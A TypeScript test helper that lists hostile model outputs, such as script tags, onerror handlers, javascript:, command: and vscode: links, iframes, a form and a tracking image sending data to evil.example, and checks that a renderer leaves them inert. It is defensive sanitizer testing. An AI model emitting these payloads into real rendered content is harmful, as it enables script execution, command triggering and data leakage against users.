// Hostile model output and the checks that it rendered inert, shared by the answer and Thinking block tests.
import * as assert from 'node:assert/strict';
import { createWindow, type TestWindow } from './dom';

export const HOSTILE: readonly [string, string][] = [
  ['img onerror', '<img src=x onerror="window.__pwned=1">'],
  ['script block', '<script>window.__pwned=1</script>'],
  ['inline script', 'text <script>window.__pwned=1</script> more'],
  ['javascript link', '[x](javascript:window.__pwned=1)'],
  ['encoded javascript link', '[x](jav&#x61;script:alert(1))'],
  ['command link', '[x](command:workbench.action.terminal.new)'],
  ['vscode link', '<a href="vscode:extension/evil.ext">open</a>'],
  ['vscode-file autolink', '<vscode://file/etc/passwd>'],
  ['data link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['svg onload', '<svg onload="window.__pwned=1"><circle r="1"/></svg>'],
  ['object/embed', '<object data="x.swf"></object><embed src="x.swf">'],
  ['form button', '<form action="https://evil.example"><button>Insert</button></form>'],
  ['fake toolbar', '<div class="code-block" data-role="code-block"><button data-action="insert">Insert</button></div>'],
  ['style', '<style>body{display:none}</style><p style="color:red">x</p>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['link onclick', '<a href="https://ok.example" onclick="window.__pwned=1" target="_top">ok</a>'],
  ['remote image', '![tracker](https://evil.example/leak?secret=1)'],
  ['base', '<base href="https://evil.example/">'],
];

type Flags = { __pwned?: number; __control?: number };

/**
 * A window that runs scripts and inline event handlers, as a browser would: checked with a handler that
 * must run, so a "nothing ran" assertion in it can fail.
 */
export function scriptingWindow(): TestWindow {
  const window = createWindow({ runScripts: true });
  const probe = window.document.createElement('div');
  probe.innerHTML = '<b onclick="window.__control = 1">control</b>';
  window.document.body.append(probe);
  probe.querySelector('b')!.click();
  assert.equal((window as unknown as Flags).__control, 1, 'the test window runs inline handlers');
  probe.remove();
  return window;
}

const EVENTS = ['click', 'dblclick', 'mouseover', 'mouseenter', 'pointerdown', 'focus', 'error', 'load', 'toggle', 'animationstart', 'input', 'submit'];

/** Fires at every element what a user or the browser could fire, and checks that nothing set `window.__pwned`. */
export function assertNothingRuns(window: TestWindow, container: HTMLElement, label: string): void {
  for (const element of Array.from(container.querySelectorAll('*'))) {
    for (const type of EVENTS) element.dispatchEvent(new window.Event(type, { cancelable: true }));
  }
  assert.equal((window as unknown as Flags).__pwned, undefined, `${label}: model output ran a script`);
}

/**
 * The DOM of rendered model output holds nothing active: no handlers, styles, scripts, frames or forms,
 * only http(s)/mailto links, only inline images, and only the buttons of our own code block toolbars.
 */
export function assertInert(container: HTMLElement, label: string, toolbarButtons: number): void {
  for (const el of Array.from(container.querySelectorAll('*'))) {
    for (const attr of Array.from(el.attributes)) {
      assert.ok(!/^on/i.test(attr.name), `${label}: ${el.tagName} keeps ${attr.name}`);
      assert.notEqual(attr.name, 'style', `${label}: style attribute kept`);
      assert.notEqual(attr.name, 'target', `${label}: target attribute kept`);
    }
  }
  for (const tag of ['script', 'iframe', 'object', 'embed', 'form', 'style', 'meta', 'base', 'svg']) {
    assert.equal(container.querySelector(tag), null, `${label}: <${tag}> kept`);
  }
  for (const a of Array.from(container.querySelectorAll('a'))) {
    const href = a.getAttribute('href');
    if (href !== null) assert.match(href, /^(https?:|mailto:)/i, `${label}: href ${href}`);
  }
  for (const img of Array.from(container.querySelectorAll('img'))) {
    assert.match(img.getAttribute('src') ?? '', /^data:image\//, `${label}: remote image loads`);
  }
  const buttons = container.querySelectorAll('button').length;
  assert.equal(buttons, container.querySelectorAll('pre').length * toolbarButtons, `${label}: foreign buttons`);
  for (const el of Array.from(container.querySelectorAll('[data-action]'))) {
    assert.ok(el.closest('.code-toolbar'), `${label}: data-action outside a toolbar`);
  }
}
